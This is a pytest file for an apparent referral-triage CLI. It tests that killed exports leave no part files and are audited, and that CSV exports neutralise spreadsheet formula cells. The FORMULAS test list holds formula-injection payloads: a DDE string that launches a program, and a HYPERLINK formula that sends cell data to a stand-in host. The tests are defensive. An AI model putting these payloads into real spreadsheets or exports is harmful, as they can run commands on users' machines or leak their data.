# ruff: noqa: F811  (the fixtures imported from tests/test_cli_store.py are redefined as arguments)
"""Issue 13, items 3 and 6: what an export leaves behind and what it writes.

A killed ``triage referrals export`` (a real process, SIGKILLed while it is writing) leaves no part
file and is on the audit trail, because the export is audited before its first byte. A CSV meant for
a spreadsheet has its formula cells neutralised with a leading apostrophe, and import gives the
original values back. The stores are copies of tests/test_cli_store.py's template (cheap KDF).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import multiprocessing
import os
import random
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.needs import needs
from tests.store.conftest import make_nhs_number
from tests.test_cli_store import (  # noqa: F401  (fixtures, used by name)
    ADMIN,
    LEAD,
    PASSWORDS,
    PWP,
    ROW,
    audit_trail,
    environment,
    new_store,
    rows_file,
    run,
    run_as,
    template,
)
from triage.cli import main
from triage.services.export_file import leftovers
from triage.services.spreadsheet_csv import neutralise, restore

KILLS = 50 if os.environ.get("CI") else 20  # real SIGKILLs mid-export (issue 13: at least 50 in CI)
SEED = int(os.environ.get("TRIAGE_KILL_SEED", "20261201"))  # where in the writing each kill lands
FORMULAS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "'already quoted", "=1+1"]  # fmt: skip


def _many_rows(count: int) -> list[dict[str, Any]]:
    return [{**ROW, "nhs_number": make_nhs_number(100 + i), "notes": "n" * 400} for i in range(count)]


@pytest.fixture
def big_store(tmp_path: Path, capsys: pytest.CaptureFixture[str], new_store: Any) -> Path:
    db = new_store(tmp_path / "big.db")
    code, _, err = run(capsys, "--database", db, "referrals", "import", rows_file(tmp_path, _many_rows(4000)))
    assert code == 0, err
    return db


def _export_process(db: Path, *extra: str | Path, stdout: Any = subprocess.DEVNULL) -> subprocess.Popen[bytes]:
    env = {k: v for k, v in os.environ.items() if k not in ("TRIAGE_DATABASE_URL", "TRIAGE_NEW_PASSWORD")}
    return subprocess.Popen(
        [sys.executable, "-m", "triage", "--database", str(db), "referrals", "export", *map(str, extra)],
        stdout=stdout, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
        env={**env, "TRIAGE_USER": LEAD, "TRIAGE_PASSWORD": PASSWORDS[LEAD], "PYTHONPATH": os.getcwd()},
    )  # fmt: skip


def _forked_export(db: Path, target: Path) -> multiprocessing.process.BaseProcess:
    """``triage referrals export --out target`` in a forked process: a real process to SIGKILL, without
    the second of start-up a new interpreter costs (this one has imported everything already)."""
    process = multiprocessing.get_context("fork").Process(target=_export_main, args=(db, target), daemon=True)
    process.start()
    return process


def _export_main(db: Path, target: Path) -> None:
    os.environ.update({"TRIAGE_USER": LEAD, "TRIAGE_PASSWORD": PASSWORDS[LEAD]})
    with open(os.devnull, "w") as devnull, contextlib.redirect_stdout(devnull), contextlib.redirect_stderr(devnull):
        code = main(["--database", str(db), "referrals", "export", "--out", str(target)])
    os._exit(code)


def _writing_into(pid: int, folder: Path) -> bool:
    """Whether process ``pid`` holds a file in ``folder`` that has bytes in it (its export is under way)."""
    fds = Path(f"/proc/{pid}/fd")
    for fd in list(fds.iterdir()) if fds.is_dir() else []:
        try:
            # a regular file only: the folder itself is open while the leftovers are looked for
            held = fd.stat()
            if os.readlink(fd).startswith(str(folder)) and stat.S_ISREG(held.st_mode) and held.st_size > 0:
                return True
        except OSError:
            continue
    return False


def test_an_export_killed_while_writing_leaves_no_part_file_and_is_audited(
    tmp_path: Path,
    big_store: Path,
    template: Any,
) -> None:
    needs(Path("/proc/self/fd").is_dir(), "/proc is needed: the test watches the exporting process through it")
    out_dir = tmp_path / "exports"
    out_dir.mkdir()
    target = out_dir / "all.csv"
    killed = finished = run_number = 0
    rng = random.Random(SEED)
    while killed < KILLS:  # real SIGKILLs mid-way, not runs
        run_number += 1
        assert run_number <= 2 * KILLS, f"only {killed} of {run_number - 1} exports were killed mid-way"
        process = _forked_export(big_store, target)
        assert process.pid is not None
        deadline = time.monotonic() + 60
        while process.is_alive() and not _writing_into(process.pid, out_dir):
            assert time.monotonic() < deadline, "the export did not start writing within a minute"
            time.sleep(0.001)
        if process.is_alive():
            time.sleep(rng.uniform(0, 0.02))  # somewhere in the middle of the writing
            os.kill(process.pid, signal.SIGKILL)
        process.join()
        if process.exitcode == -signal.SIGKILL:
            killed += 1
        else:
            assert process.exitcode == 0
            finished += 1
        assert leftovers(target) == [], "a killed export left a plaintext part file"
        assert sorted(p.name for p in out_dir.iterdir()) in ([], ["all.csv"])
        audited = [s for _, action, s in audit_trail(big_store, template.key) if action == "export"]
        assert audited == [f"exporting 4000 referrals (csv) to {target}"] * run_number, (killed, finished)
    if target.exists():  # whatever is there is a whole export, never half of one
        assert len(list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))) == 4001


def test_an_export_killed_on_standard_output_is_audited_before_its_first_byte(
    big_store: Path,
    template: Any,
) -> None:
    process = _export_process(big_store, "--format", "csv", stdout=subprocess.PIPE)
    assert process.stdout is not None
    first = process.stdout.read(1)  # the first byte has left the building...
    process.send_signal(signal.SIGKILL)
    process.communicate()
    assert first == b"i"
    audited = [s for _, action, s in audit_trail(big_store, template.key) if action == "export"]
    assert audited == ["exporting 4000 referrals (csv) to standard output"]  # ...and was on record first


def test_the_next_export_removes_part_files_an_earlier_one_left(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    new_store: Any,
) -> None:
    # Where O_TMPFILE is missing the part file has a name; the next export to the target removes it.
    db = new_store(tmp_path / "t.db")
    target = tmp_path / "all.csv"
    stale = tmp_path / ".all.csv.k2j3h4.part"
    stale.write_text("nhs_number\n9990000018\n")
    other = tmp_path / ".other.csv.k2j3h4.part"  # another target's: not this export's business
    other.write_text("x")
    monkeypatch.setattr("triage.services.export_file._anonymous_file", lambda folder: None)
    code, _, err = run_as(monkeypatch, capsys, LEAD, "--database", db, "referrals", "export", "--out", target)
    assert code == 0, err
    assert sorted(p.name for p in tmp_path.glob(".*.part")) == [other.name] and target.is_file()


# --- CSV formula injection (item 6) ----------------------------------------------------------------


def test_csv_export_neutralises_formula_cells_and_import_gives_them_back(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    new_store: Any,
) -> None:
    rows = [{**ROW, "nhs_number": make_nhs_number(i), "given_name": formula, "notes": formula,
             "phone": "+447700900123"} for i, formula in enumerate(FORMULAS, start=1)]  # fmt: skip
    db = new_store(tmp_path / "t.db")
    code, _, err = run(capsys, "--database", db, "referrals", "import", rows_file(tmp_path, rows))
    assert code == 0, err
    code, text, err = run_as(monkeypatch, capsys, LEAD, "--database", db, "referrals", "export", "--format", "csv")
    assert code == 0, err
    cells = list(csv.DictReader(io.StringIO(text)))
    assert [c["given_name"] for c in cells] == ["'" + f for f in FORMULAS]
    assert [c["notes"] for c in cells] == ["'" + f for f in FORMULAS]
    assert {c["phone"] for c in cells} == {"'+447700900123"}
    again = new_store(tmp_path / "again.db")
    # another store: its own reference prefix, so the carried references cannot collide with its own
    assert run_as(monkeypatch, capsys, ADMIN, "--database", again, "db", "prefix", "TWO")[0] == 0
    (tmp_path / "export.csv").write_text(text, encoding="utf-8")
    as_pwp_code, _, err = run_as(monkeypatch, capsys, PWP, "--database", again, "referrals", "import",
                                 tmp_path / "export.csv")  # fmt: skip
    assert as_pwp_code == 0, err
    code, back, _ = run_as(monkeypatch, capsys, LEAD, "--database", again, "referrals", "export")
    restored = json.loads(back)
    assert [(r["given_name"], r["notes"], r["phone"]) for r in restored] == [(f, f, "+447700900123") for f in FORMULAS]


def test_the_audit_trail_csv_goes_through_the_same_writer() -> None:
    from triage.services import audit_trail, transfer

    assert audit_trail.SpreadsheetWriter is transfer.SpreadsheetWriter


@given(st.text())
def test_neutralise_is_undone_exactly_by_restore(value: str) -> None:
    cell = neutralise(value)
    assert restore(cell) == value
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
